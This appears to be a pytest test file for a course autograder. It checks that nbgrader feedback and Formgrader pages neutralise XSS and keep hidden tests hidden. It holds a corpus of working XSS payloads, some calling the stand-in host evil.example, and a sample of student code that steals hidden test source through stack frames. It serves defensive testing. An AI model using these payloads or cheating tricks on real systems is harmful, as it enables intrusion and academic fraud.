"""Feedback and autograded notebooks are safe to render, and feedback keeps hidden tests hidden.

Student code runs in the grading kernel, so everything a graded notebook holds may be hostile.
The XSS corpus below is rendered the way nbgrader renders it (the feedback template through
GenerateFeedback's preprocessors; Formgrader's template for the autograded copy) and checked twice:
statically with ``html.parser`` and in a real browser (Debian's chromium driven by Playwright),
which must see no payload run. A control renders the corpus without the course's protections and
must see payloads run, so the checks can fail. The hidden-test policy is checked on a small
notebook executed by a real kernel, and lab prose on every released lab.
"""

from __future__ import annotations

import base64
import copy
import csv
import html
import re
from collections import Counter
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbclient import NotebookClient
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from nbgrader.preprocessors import ClearHiddenTests
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from autograder import course
from autograder.cells import fill, solution_cells
from autograder.config import course_config
from autograder.feedback.feedback import REDACTED, SafeFeedback, SanitizeNotebook
from autograder.feedback.safe_html import MARKDOWN_NOTE, clean_html, sanitize_notebook
from autograder.paths import LABS, lab_names
from browser import browser_or_skip, launch_chromium
from feedback_check import leaked_lines

EVIL = "https://evil.example"
#: A 1x1 PNG, for outputs whose image must load.
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --- The corpus -----------------------------------------------------------------------------------

@dataclass(frozen=True)
class Payload:
    """One attack. ``kind``: where it goes (an output's MIME bundle, a stream, an error, a Markdown
    or raw cell, a grade id); it reports itself with ``alert('<name>')``, a request to EVIL/<name>,
    or ``document.title = 'xss:<name>'``."""

    name: str
    kind: str
    body: str | dict
    metadata: dict = field(default_factory=dict)
    extra: dict = field(default_factory=dict)  # more MIME types, or a Markdown cell's attachments


def _alert(name: str) -> str:
    return f"alert('{name}')"


CORPUS = [
    Payload("html-script", "output", f"<script>{_alert('html-script')}</script>"),
    Payload("html-img-onerror", "output", f'<img src=x onerror="{_alert("html-img-onerror")}">'),
    Payload("html-svg-onload", "output", f'<svg onload="{_alert("html-svg-onload")}"><circle r="5"/></svg>'),
    Payload("html-svg-animate", "output", "<svg><animate onbegin=\"document.title='xss:html-svg-animate'\" "
                                          "attributeName=\"x\" dur=\"1s\"/></svg>"),
    Payload("javascript-output", "output", _alert("javascript-output"), extra={"mime": "application/javascript"}),
    Payload("javascript-breakout", "output", f"</script><script>{_alert('javascript-breakout')}</script>",
            extra={"mime": "application/javascript"}),
    Payload("svg-output", "output", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                                    "<script>alert('svg-output')</script></svg>", extra={"mime": "image/svg+xml"}),
    Payload("markdown-output", "output", f'<img src=x onerror="{_alert("markdown-output")}">\n\n'
                                         f"[x](javascript:{_alert('markdown-output')})",
            extra={"mime": "text/markdown"}),
    Payload("latex-href", "output", f"$\\href{{javascript:{_alert('latex-href')}}}{{x}}$",
            extra={"mime": "text/latex"}),
    Payload("widget-view", "output", {"model_id": "widget-view", "version_major": 2, "version_minor": 0},
            extra={"mime": "application/vnd.jupyter.widget-view+json"}),
    Payload("html-iframe-srcdoc", "output", f'<iframe srcdoc="<script>parent.{_alert("html-iframe-srcdoc")}</script>">'
                                            "</iframe>"),
    Payload("html-isolated", "output", f"<script>new Image().src='{EVIL}/html-isolated'</script>",
            metadata={"text/html": {"isolated": True}}),
    Payload("html-style-import", "output", f'<style>@import url("{EVIL}/html-style-import.css");</style>'),
    Payload("html-style-attribute", "output",
            f'<div style="background-image: url({EVIL}/html-style-attribute)">x</div>'),
    Payload("html-object-embed", "output", f'<object data="{EVIL}/html-object-embed"></object>'
                                           f'<embed src="{EVIL}/html-object-embed">'),
    Payload("html-case-mixed", "output", f"<ScRiPt>{_alert('html-case-mixed')}</sCrIpT>"
                                         f'<IMG SRC=x OnErRoR="{_alert("html-case-mixed")}">'),
    Payload("html-unclosed", "output", f'<img src=x onerror="{_alert("html-unclosed")}"'),
    Payload("html-tab-javascript", "output", f'<a href="jav&#x09;ascript:{_alert("html-tab-javascript")}">x</a>'),
    Payload("html-mxss", "output", f"<math><mtext><table><mglyph><style><img src=x onerror=\"{_alert('html-mxss')}\">"),
    Payload("png-width", "output", PNG, metadata={"image/png": {"width": f"1 onload={_alert('png-width')}"}},
            extra={"mime": "image/png"}),
    Payload("stream-html", "stream", f"<script>{_alert('stream-html')}</script>"),
    Payload("error-html", "error", f'<img src=x onerror="{_alert("error-html")}">'),
    Payload("markdown-details", "markdown",
            f'<details open ontoggle="{_alert("markdown-details")}"><summary>s</summary>'
                                            "d</details>"),
    Payload("markdown-a-javascript", "markdown", f'<a href="javascript:{_alert("markdown-a-javascript")}">click</a>'),
    Payload("markdown-link-javascript", "markdown", f"[click](javascript:{_alert('markdown-link-javascript')})"),
    Payload("markdown-autolink", "markdown", f"<javascript:{_alert('markdown-autolink')}>"),
    Payload("markdown-reference-link", "markdown",
            "[click][1]\n\n[1]: &#106;avascript:alert('markdown-reference-link')"),
    Payload("markdown-entity-javascript", "markdown",
            f'<a href="&#106;avascript&#58;{_alert("markdown-entity-javascript")}">x</a>'),
    Payload("markdown-data-link", "markdown",
            f"[open](data:text/html;base64,{_b64('<script>' + _alert('markdown-data-link') + '</script>')})"),
    Payload("markdown-meta-refresh", "markdown",
            f'<meta http-equiv="refresh" content="0;url={EVIL}/markdown-meta-refresh">'),
    Payload("markdown-base-href", "markdown", f'<base href="{EVIL}/markdown-base-href/">'),
    Payload("markdown-form", "markdown",
            f'<form action="{EVIL}/markdown-form"><input name="q"><button>go</button></form>'),
    Payload("markdown-link-stylesheet", "markdown",
            f'<link rel="stylesheet" href="{EVIL}/markdown-link-stylesheet.css">'),
    Payload("markdown-style-import", "markdown", f'<style>@import url("{EVIL}/markdown-style-import.css");</style>'),
    Payload("markdown-case-mixed", "markdown", f'<IMG SRC=x OnErRoR="{_alert("markdown-case-mixed")}">'),
    Payload("markdown-unclosed", "markdown", f'text <img src=x onerror="{_alert("markdown-unclosed")}"'),
    Payload("markdown-input-autofocus", "markdown",
            f'<input autofocus onfocus="{_alert("markdown-input-autofocus")}">'),
    Payload("markdown-mxss", "markdown",
            f"<noscript><p title=\"</noscript><img src=x onerror={_alert('markdown-mxss')}>\">"),
    Payload("markdown-attachment-svg", "markdown", "![x](attachment:evil.svg)",
            extra={"attachments": {"evil.svg": {"image/svg+xml": _b64(
                f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_alert("markdown-attachment-svg")}"/>')}}}),
    Payload("raw-html", "raw", f'<img src=x onerror="{_alert("raw-html")}">'),
    Payload("grade-id", "grade_id", f'x"><img src=x onerror="{_alert("grade-id")}">'),
]
NAMES = frozenset(p.name for p in CORPUS)
#: Notebook metadata that makes nbconvert embed the widget view above (and load a widget manager).
WIDGET_STATE = {"application/vnd.jupyter.widget-state+json": {
    "version_major": 2, "version_minor": 0, "state": {"widget-view": {"model_name": "HTMLModel", "state": {
        "value": f"<img src=x onerror=\"{_alert('widget-view')}\">"}}}}}


def _nbgrader(grade_id: str, *, grade: bool, solution: bool, points: float = 0, locked: bool = False) -> dict:
    return {"grade": grade, "grade_id": grade_id, "locked": locked, "points": points, "schema_version": 3,
            "solution": solution, "task": False}


def payload_cell(payload: Payload, executed: bool):
    """The cell that carries ``payload``: with its outputs already there (``executed``, as in an
    autograded copy), or as the code a student's kernel runs to produce them."""
    if payload.kind == "markdown":
        cell = new_markdown_cell(payload.body)
        if "attachments" in payload.extra:
            cell.attachments = payload.extra["attachments"]
        return cell
    if payload.kind == "raw":
        return new_raw_cell(payload.body, metadata={"raw_mimetype": "text/html"})
    if payload.kind == "grade_id":
        return new_code_cell("1 + 1", metadata={"nbgrader": _nbgrader(payload.body, grade=True, solution=False,
                                                                       points=1)})
    if payload.kind == "stream":
        source, output = f"print({payload.body!r})", new_output("stream", name="stdout", text=payload.body + "\n")
    elif payload.kind == "error":
        source = f"raise ValueError({payload.body!r})"
        output = new_output("error", ename="ValueError", evalue=payload.body, traceback=[f"ValueError: {payload.body}"])
    else:
        data = {payload.extra.get("mime", "text/html"): payload.body, "text/plain": f"<{payload.name}>"}
        source = ("from IPython.display import publish_display_data\n"
                  f"publish_display_data({data!r}, metadata={payload.metadata!r})")
        output = new_output("display_data", data=data, metadata=payload.metadata)
    return new_code_cell(source, outputs=[output] if executed else [], execution_count=7 if executed else None)


def autograded_notebook(payloads=CORPUS):
    """A small autograded notebook (lab prose, an answer, a visible and a hidden test) with the payloads."""
    nb = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
                                "widgets": WIDGET_STATE})
    nb.cells = [
        new_markdown_cell("# Lab\n\nWhere $a < b$, `x -> y` and [docs](https://numpy.org).",
                          metadata={"nbgrader": _nbgrader("intro", grade=False, solution=False, locked=True)}),
        new_code_cell("def square(x):\n    return x * x", execution_count=1,
                      metadata={"nbgrader": _nbgrader("answer", grade=False, solution=True)}),
        new_code_cell("assert square(3) == 9", execution_count=2,
                      metadata={"nbgrader": _nbgrader("test_visible", grade=True, solution=False, points=1,
                                                      locked=True)}),
        new_code_cell("# hidden tests\n### BEGIN HIDDEN TESTS\nassert square(12345) == 152399025, 'a hidden check'\n"
                      "### END HIDDEN TESTS", execution_count=3,
                      metadata={"nbgrader": _nbgrader("test_hidden", grade=True, solution=False, points=2,
                                                      locked=True)}),
    ]
    nb.cells += [payload_cell(p, executed=True) for p in payloads]
    return nb


# --- Rendering as nbgrader does -------------------------------------------------------------------

def _with_grades(nb):
    """What nbgrader's GetGrades adds from the gradebook (a score per graded cell), and the page's resources."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["score"] = meta.get("points", 0)
    return {"nbgrader": {"notebook": "lab", "score": 3, "max_score": 3, "late_penalty": 0}}


def feedback_html(nb, root: Path, protected: bool = True) -> str:
    """The feedback page of an autograded notebook: GenerateFeedback's exporter and preprocessors
    with the course configuration (GetGrades simulated). Unprotected: nbgrader's defaults, with only
    ClearHiddenTests."""
    config = course_config(root) if protected else Config()
    app = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    exporter = HTMLExporter(parent=app, config=app.config)
    steps = list(config.GenerateFeedback.preprocessors) if protected else [ClearHiddenTests]
    for step in steps:
        if step != "nbgrader.preprocessors.GetGrades":
            exporter.register_preprocessor(step)
    nb = copy.deepcopy(nb)
    return exporter.from_notebook_node(nb, resources=_with_grades(nb))[0]


def formgrader_html(nb) -> str:
    """How Formgrader shows an autograded notebook: its template, with nbconvert's default settings."""
    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "lab", "notebook_id": "lab", "submission_id": "s", "index": 0, "total": 1,
                 "base_url": "", "student": "student", "last_name": "L", "first_name": "F",
                 "notebook_path": "lab.ipynb"}
    nb = copy.deepcopy(nb)
    _with_grades(nb)
    return HTMLExporter(config=config).from_notebook_node(nb, resources=resources)[0]


def autograded(nb):
    """The notebook as the Autograde step leaves it: SanitizeNotebook applied."""
    nb = copy.deepcopy(nb)
    SanitizeNotebook().preprocess(nb, {})
    return nb


# --- Static check of a page -----------------------------------------------------------------------

URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
                            "srcdoc", "cite"})
FORBIDDEN_ELEMENTS = frozenset({"iframe", "object", "embed", "base", "form", "svg", "frame", "applet"})


class _Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list]] = []
        self.texts: dict[str, list[str]] = {"script": [], "style": []}
        self._open: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag in self.texts:
            self._open.append(tag)
            self.texts[tag].append("")

    def handle_endtag(self, tag):
        if self._open and self._open[-1] == tag:
            self._open.pop()

    def handle_data(self, data):
        if self._open:
            self.texts[self._open[-1]][-1] += data


def _scheme(url: str) -> str:
    compact = re.sub(r"[\x00-\x20]", "", html.unescape(url)).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", compact)
    return match[1] if match else ""


def static_problems(page: str, template: str = "") -> list[str]:
    """What in ``page`` could run or load a payload: event handlers, script-capable URLs, frames and
    the like, scripts, styles or URLs that came from the corpus. What the ``template`` page (the
    same view of a notebook without payloads) holds too is the template's own markup."""
    return list((Counter(_risky(page)) - Counter(_risky(template))).elements())


def _risky(page: str) -> list[str]:
    parser = _Page()
    parser.feed(page)
    problems = []
    for tag, attrs in parser.elements:
        if tag in FORBIDDEN_ELEMENTS or (tag == "meta" and any(k == "http-equiv" for k, _ in attrs)):
            problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and _scheme(value) in ("javascript", "vbscript", "data"):
                if not (tag == "img" and re.match(r"\s*data:image/(png|jpeg|gif);base64,", value, re.I)):
                    problems.append(f"<{tag} {name}={value[:40]!r}>")
            if EVIL in value:
                problems.append(f"<{tag} {name}> loads {value[:60]!r}")
            if tag == "script" and name == "type" and "widget" in value:
                problems.append("widget state script")
    for kind, texts in parser.texts.items():
        problems += [f"<{kind}> from the corpus" for text in texts
                     if EVIL in text or any(name in text for name in NAMES)]
    return problems


# --- The browser ----------------------------------------------------------------------------------

PROBE = """() => {
  const seen = [document.title, 'base ' + document.baseURI];
  for (const f of document.forms) seen.push('form ' + f.action);
  for (const a of document.querySelectorAll('a[href], area[href]'))
    if (['javascript:', 'data:', 'vbscript:'].includes(a.protocol)) seen.push('link ' + decodeURI(a.href));
  for (const img of document.images)
    if (img.src.startsWith('data:image/svg')) seen.push('image ' + img.src);
  return seen;
}"""


def _names_in(text: str) -> set[str]:
    """The payload names ``text`` mentions, also inside base64 data URLs."""
    decoded = [text]
    for chunk in re.findall(r"base64,([A-Za-z0-9+/=]+)", text):
        decoded.append(base64.b64decode(chunk + "=" * (-len(chunk) % 4)).decode("utf-8", "replace"))
    return {name for name in NAMES for part in decoded if name in part}


def payloads_that_ran(pages: list[str], tmp_path: Path) -> set[str]:
    """Open each page in chromium (no network: requests are recorded, then refused), click every
    script-capable link, and return the payloads that ran or were one click from running: a dialog,
    a console message, a request to EVIL, a changed title or base URL, a form to EVIL, such a link.

    The pages are open side by side, tabs of one browser window, so the waits for late payloads
    (timers, animations: 300 ms after loading, 100 ms after the clicks) are paid once, not per page."""
    playwright = browser_or_skip()
    seen: list[str] = []
    with playwright.sync_playwright() as driver:
        browser = launch_chromium(driver)
        try:
            window = browser.new_context()
            window.route("**/*", lambda route: route.continue_() if route.request.url.startswith("file:")
                         else route.abort())
            tabs = []
            for number, page_html in enumerate(pages):
                path = tmp_path / f"page{number}.html"
                path.write_text(page_html)
                page = window.new_page()
                page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
                page.on("console", lambda message: seen.append(message.text))
                page.on("request", lambda request: seen.append(request.url))
                page.goto(path.as_uri())
                tabs.append(page)
            tabs[-1].wait_for_timeout(300)
            for page in tabs:
                try:
                    seen.extend(page.evaluate(PROBE))
                    page.evaluate("() => { for (const a of document.querySelectorAll('a'))"
                                  " if (a.protocol === 'javascript:') a.click(); }")
                except Exception as error:  # the page navigated away (a refresh): that is a finding too
                    seen.append(f"navigated: {page.url} ({type(error).__name__})")
            tabs[-1].wait_for_timeout(100)
        finally:
            browser.close()
    return set().union(*(_names_in(text) for text in seen)) if seen else set()


# --- The corpus, rendered ------------------------------------------------------------------------

def test_corpus_is_large_and_varied():
    assert len(CORPUS) >= 15 and len(NAMES) == len(CORPUS)
    assert {p.kind for p in CORPUS} >= {"output", "stream", "error", "markdown", "raw", "grade_id"}


@pytest.mark.parametrize("render", ["feedback", "formgrader"])
def test_rendered_pages_hold_nothing_that_runs(render, tmp_path):
    view = (lambda nb: feedback_html(nb, tmp_path)) if render == "feedback" else formgrader_html
    page, template = view(autograded(autograded_notebook())), view(autograded_notebook([]))
    assert static_problems(page, template) == []


def test_feedback_is_safe_even_from_an_unsanitized_autograded_copy(tmp_path):
    page = feedback_html(autograded_notebook(), tmp_path)  # SafeFeedback sanitizes it again
    assert static_problems(page) == []


def test_static_check_finds_the_corpus_in_an_unprotected_page(tmp_path):
    page = feedback_html(autograded_notebook(), tmp_path, protected=False)
    problems = static_problems(page)
    assert len(problems) >= 15, problems


@pytest.mark.slow
def test_no_payload_runs_in_a_browser(tmp_path):
    nb = autograded(autograded_notebook())
    assert payloads_that_ran([feedback_html(nb, tmp_path), formgrader_html(nb)], tmp_path) == set()


@pytest.mark.slow
def test_browser_sees_payloads_run_without_protection(tmp_path):
    """The control: nbgrader's pages of the raw corpus, one payload per page, let payloads run."""
    pages = [feedback_html(autograded_notebook([p]), tmp_path, protected=False) for p in CORPUS]
    ran = payloads_that_ran(pages, tmp_path)
    print(f"\nran without protection ({len(ran)} of {len(CORPUS)}): {sorted(ran)}")
    assert len(ran) >= 15, sorted(ran)


# --- Sanitizing, piece by piece ------------------------------------------------------------------

def test_clean_html_keeps_tables_text_and_inline_images_only():
    table = ('<table border="1"><thead><tr style="text-align: right;"><th>a</th></tr></thead>'
             '<tbody><tr><td colspan="2"><b>1</b> &lt; 2</td></tr></tbody></table>')
    assert clean_html(table) == table.replace("right;", "right")
    image = f'<img src="data:image/png;base64,{PNG}" width="10">'
    assert clean_html(image) == image
    assert clean_html(f'<img src="{EVIL}/x.png">') == "<img>"
    assert clean_html(f'<img src="data:image/svg+xml;base64,{_b64("<svg/>")}">') == "<img>"
    link = '<a href="https://numpy.org">np</a>'
    assert clean_html(link) == link.replace(">np", ' rel="noopener noreferrer">np')
    assert clean_html('<a href="data:text/html,x">x</a>') == '<a rel="noopener noreferrer">x</a>'
    styled = '<p style="color: red; position: fixed; background: url(x)">t</p>'
    assert clean_html(styled) == '<p style="color: red">t</p>'
    assert clean_html('<span id="MathJax" class="k modal" onclick="f()">t</span>') == '<span class="k">t</span>'


def test_outputs_keep_text_images_and_clean_html_and_drop_the_rest():
    nb = autograded_notebook([p for p in CORPUS if p.kind == "output"])
    removed = sanitize_notebook(nb)
    kinds = {}
    for cell in nb.cells[4:]:
        (output,) = cell.outputs
        kinds.update(output["data"])
        assert set(output["data"]) <= {"text/plain", "text/html", "text/latex", "image/png", "image/jpeg"}
        assert set(output.get("metadata", {})) <= {"image/png"}
    assert "image/png" in kinds and "text/html" in kinds
    assert any("application/javascript" in r for r in removed) and any("image/svg+xml" in r for r in removed)
    assert nb.metadata.keys() == {"kernelspec"}, "widget state must go"


def test_sanitizing_keeps_what_nbgrader_grades_on():
    nb = autograded_notebook([p for p in CORPUS if p.kind in ("stream", "error")])
    before = [copy.deepcopy(cell.get("outputs")) for cell in nb.cells]
    sanitize_notebook(nb)
    assert [cell.get("outputs") for cell in nb.cells] == before


def test_markdown_with_raw_html_or_unsafe_links_is_shown_as_source():
    for payload in (p for p in CORPUS if p.kind == "markdown" and p.name != "markdown-unclosed"):
        # (an unclosed tag is text to CommonMark, which nbconvert escapes: nothing to rewrite)
        nb = autograded_notebook([payload])
        assert sanitize_notebook(nb), payload.name
        cell = nb.cells[-1]
        assert MARKDOWN_NOTE in cell.source and html.escape(payload.body) in cell.source, payload.name
        assert re.findall(r"<[^>]*>", cell.source) == ["<pre>", "</pre>"], "no markup but the wrapper"
        assert sanitize_notebook(nb) == [], "sanitizing twice changes nothing"
        assert cell.get("attachments", {}) == {}


def test_grade_id_that_is_not_an_identifier_is_demoted():
    nb = autograded_notebook([p for p in CORPUS if p.kind == "grade_id"])
    assert any("grade id" in r for r in sanitize_notebook(nb))
    assert "nbgrader" not in nb.cells[-1].metadata
    assert all("nbgrader" in cell.metadata for cell in nb.cells[:4])


# --- Lab prose ------------------------------------------------------------------------------------

class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self._skip = 0

    def handle_starttag(self, tag, attrs):
        self._skip += tag in ("script", "style")

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._skip:
            self._skip -= 1

    def handle_data(self, data):
        if not self._skip:
            self.parts.append(data)


def visible_text(page: str) -> str:
    parser = _Text()
    parser.feed(page)
    return " ".join(" ".join(parser.parts).split())


@pytest.mark.parametrize("lab", lab_names())
@pytest.mark.parametrize("template", ["lab", "classic"])
def test_lab_prose_renders_as_before(lab, template, tmp_path):
    """Every released lab: nothing to remove, and the same text rendered with nbconvert's defaults
    before and with the course's sanitizing (notebook and template layer) after."""
    nb = nbformat.read(LABS / lab / f"{lab}.ipynb", as_version=4)
    plain, course = Config(), course_config(tmp_path)
    plain.HTMLExporter.template_name = course.HTMLExporter.template_name = template
    before = visible_text(HTMLExporter(config=plain).from_notebook_node(copy.deepcopy(nb))[0])
    sanitized = copy.deepcopy(nb)
    assert sanitize_notebook(sanitized) == []
    after = visible_text(HTMLExporter(config=course).from_notebook_node(sanitized)[0])
    assert "$" in after and after == before


@pytest.mark.parametrize("lab", lab_names())
def test_lab_feedback_prose_is_unchanged(lab, tmp_path):
    nb = nbformat.read(LABS / lab / f"{lab}.ipynb", as_version=4)
    plain_page = feedback_html(nb, tmp_path, protected=False)
    assert visible_text(feedback_html(nb, tmp_path)) == visible_text(plain_page)


# --- The hidden-test policy, on a notebook a real kernel ran --------------------------------------

SECRET = "expected_value_of_the_hidden_test = 17"
STUDENT = '''
import inspect, sys
STOLEN = []
def square(x):
    """Squares, and steals the calling test's source: prints it, keeps it, raises it."""
    source = inspect.getsource(sys._getframe(1))
    STOLEN.append(source)
    print(source)
    if x < 0:
        raise ValueError(source)
    return 16 if x == 4 else x * x

import numpy as np
def cube(x):
    """Cubes, after an assertion inside numpy that quotes the calling test's source."""
    np.testing.assert_equal(inspect.getsource(sys._getframe(1)), "")
    return x ** 3
'''
HIDDEN_STUDENT_ERROR = "assert square(-2) == 4, 'negative numbers are squared too, whatever the caller'"
HIDDEN_ASSERT = (f'{SECRET}\nassert square(4) == expected_value_of_the_hidden_test, '
                 f'f"square(4) gave {{square(4)}}; {SECRET}" + " padding" * 60')
HIDDEN_PASS = "assert square(5) == 25, 'five squared is twenty-five, as always'"
HIDDEN_HELPER = "np.testing.assert_allclose(square(4), 17.0, err_msg='four squared, checked by numpy')"
HIDDEN_STUDENT_ASSERT = "assert cube(2) == 8, 'two cubed is eight, and the hidden test says so'"
LATER = '''
import IPython
from IPython.display import HTML, display
print("\\n".join(STOLEN))
print(STOLEN)
print(IPython.get_ipython().user_ns["In"][4])
line = next(l for l in "\\n".join(STOLEN).splitlines() if l.startswith("expected_"))
print(line.replace("expected", "\\x1b[31mexpec\\u200bted\\x1b[0m"))
print(line[:12], end="", flush=True); print(line[12:], flush=True)
display(HTML("<b>" + line[:10] + "</b>" + line[10:]))
'''


def _test_cell(grade_id: str, visible: str, hidden: str | None, points: float):
    source = visible if hidden is None else f"{visible}\n### BEGIN HIDDEN TESTS\n{hidden}\n### END HIDDEN TESTS"
    return new_code_cell(source, metadata={"nbgrader": _nbgrader(grade_id, grade=True, solution=False, points=points,
                                                                 locked=True)})


@pytest.fixture(scope="module")
def executed():
    """The policy notebook, run by a real IPython kernel (its tracebacks are the real format)."""
    nb = new_notebook()
    nb.cells = [
        new_code_cell(STUDENT, metadata={"nbgrader": _nbgrader("answer", grade=False, solution=True)}),
        _test_cell("test_visible", "assert square(3) == 9\nsquare(-1)", None, 1),
        _test_cell("test_hidden_student_error", "# more cases", HIDDEN_STUDENT_ERROR, 1),
        _test_cell("test_hidden_assert", "# the value four", HIDDEN_ASSERT, 1),
        _test_cell("test_hidden_pass", "# the value five", HIDDEN_PASS, 1),
        _test_cell("test_hidden_helper", "import numpy as np", HIDDEN_HELPER, 1),
        _test_cell("test_hidden_student_assert", "# cubes", HIDDEN_STUDENT_ASSERT, 1),
        new_code_cell(LATER),
    ]
    NotebookClient(nb, kernel_name="python3", allow_errors=True, timeout=60).execute()
    return nb


def _hidden_lines() -> list[str]:
    """The oracle's secrets: the substantial lines of the hidden regions, written independently."""
    return [line.strip() for region in (HIDDEN_STUDENT_ERROR, HIDDEN_ASSERT, HIDDEN_PASS, HIDDEN_HELPER,
                                        HIDDEN_STUDENT_ASSERT)
            for line in region.splitlines() if len(line.strip()) >= 20]


def _readable(outputs) -> str:
    """What a reader sees of outputs: all their strings, without colours, invisible characters, tags."""
    texts: list[str] = []

    def walk(value):
        if isinstance(value, str):
            texts.append(value)
        elif isinstance(value, (dict, list)):
            for item in value.values() if isinstance(value, dict) else value:
                walk(item)

    walk(outputs)
    return re.sub(r"<[^>]+>", "", re.sub(r"\x1b\[[0-9;]*m|\u200b", "", "\n".join(texts)))


@pytest.fixture(scope="module")
def feedback(executed):
    nb = copy.deepcopy(executed)
    SafeFeedback().preprocess(nb, {})
    ClearHiddenTests().preprocess(nb, {})
    return nb


@pytest.mark.slow
def test_the_kernel_really_leaked(executed):
    """Without the policy, every hidden line shows in the outputs (so the checks below can fail)."""
    leaked = _readable([cell.outputs for cell in executed.cells])
    assert all(line in leaked for line in _hidden_lines())


@pytest.mark.slow
def test_error_raised_in_student_code_shows_no_message(feedback):
    (output,) = feedback.cells[2].outputs
    assert output.output_type == "error" and output.evalue == ""
    assert output.traceback == ["failed: ValueError raised inside your code while the hidden tests ran "
                                "(its message is not shown)"]


@pytest.mark.slow
def test_assertion_of_the_test_itself_is_shown_truncated_and_redacted(feedback):
    (output,) = feedback.cells[3].outputs
    assert output.ename == "AssertionError"
    assert output.evalue.startswith(f"square(4) gave 16; {REDACTED} padding padding")
    assert SECRET not in output.evalue and len(output.evalue) < 400 and "more characters not shown" in output.evalue
    assert output.traceback == [f"failed: AssertionError: {output.evalue}"]


@pytest.mark.slow
def test_assertion_of_a_test_helper_is_the_tests_own(feedback):
    (output,) = feedback.cells[5].outputs
    assert output.ename == "AssertionError" and "four squared, checked by numpy" in output.evalue
    assert output.traceback == [f"failed: AssertionError: {output.evalue}"]


@pytest.mark.slow
def test_assertion_inside_a_helper_called_by_student_code_shows_no_message(feedback):
    (output,) = feedback.cells[6].outputs
    assert output.evalue == "" and output.traceback == [
        "failed: AssertionError raised inside your code while the hidden tests ran (its message is not shown)"]


@pytest.mark.slow
def test_passing_hidden_test_shows_only_passed(feedback):
    assert [(o.output_type, o.get("text")) for o in feedback.cells[4].outputs] == [("stream", "passed\n")]


@pytest.mark.slow
def test_no_hidden_line_anywhere_in_feedback(feedback):
    readable = _readable([cell.outputs for cell in feedback.cells]) + "".join(c.source for c in feedback.cells)
    assert [line for line in _hidden_lines() if line in readable] == [] and "HIDDEN TESTS" not in readable
    later = feedback.cells[-1].outputs
    assert REDACTED in later[0]["text"] and "text/html" not in later[-1]["data"]


@pytest.mark.slow
def test_visible_test_traceback_through_student_code_is_kept(executed, feedback):
    assert feedback.cells[1].outputs == executed.cells[1].outputs
    (output,) = [o for o in feedback.cells[1].outputs if o.output_type == "error"]
    assert output.ename == "ValueError" and any("in \x1b[36msquare" in line for line in output.traceback)


@pytest.mark.slow
def test_policy_feedback_page_shows_no_hidden_line(executed, tmp_path):
    page = feedback_html(executed, tmp_path)
    text = html.unescape(re.sub(r"<[^>]+>", "", page))
    assert [line for line in _hidden_lines() if line in " ".join(text.split())] == []
    assert "passed" in text and "failed: ValueError raised inside your code" in text


# --- The whole pipeline: real nbgrader, a hostile student beside an honest one ---------------------

LAB = "lab01_tensors"


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("safety")
    root, folder = tmp / "course", tmp / "submissions"
    solved = fill(nbformat.read(LABS / LAB / f"{LAB}.ipynb", as_version=4), solution_cells(LAB))
    hostile = copy.deepcopy(solved)
    hostile.metadata["widgets"] = WIDGET_STATE
    hostile.cells += [payload_cell(p, executed=False) for p in CORPUS if p.kind != "grade_id"]
    for student, nb in (("honest", solved), ("hostile", hostile)):
        (folder / student).mkdir(parents=True)
        nbformat.write(nb, folder / student / f"{LAB}.ipynb")
    results = course.grade(LAB, folder, root=root, log=lambda message: None)
    return {r.student: r for r in results}, root


def _toc_scores(page: str) -> dict[str, tuple[float, float]]:
    return {m[1]: (float(m[2]), float(m[3])) for m in
            re.finditer(r'<a href="#([\w-]+)">Test cell</a> \(Score: ([\d.]+) / ([\d.]+)\)', page)}


@pytest.mark.slow
def test_hostile_outputs_cost_no_points_and_feedback_shows_each_tests_points(graded_class):
    results, root = graded_class
    assert results["honest"].score == results["honest"].max_score > 0
    assert results["hostile"].score == results["honest"].score
    for student, result in results.items():
        page = (root / "feedback" / student / LAB / f"{LAB}.html").read_text()
        assert _toc_scores(page) == {name: tuple(map(float, s)) for name, s in result.exercises.items()}
        assert not leaked_lines(page, LAB)
    with open(root / "grades.csv") as handle:
        assert {r["student_id"] for r in csv.DictReader(handle)} >= {"honest", "hostile"}


@pytest.mark.slow
def test_hostile_pages_are_safe_in_a_browser(graded_class, tmp_path):
    _, root = graded_class
    page = (root / "feedback" / "hostile" / LAB / f"{LAB}.html").read_text()
    copy_on_disk = nbformat.read(root / "autograded" / "hostile" / LAB / f"{LAB}.ipynb", as_version=4)
    view = formgrader_html(copy_on_disk)
    template = formgrader_html(nbformat.read(root / "autograded" / "honest" / LAB / f"{LAB}.ipynb", as_version=4))
    assert static_problems(page) == [] and static_problems(view, template) == []
    mimes = {mime for cell in copy_on_disk.cells for o in cell.get("outputs", []) for mime in o.get("data", {})}
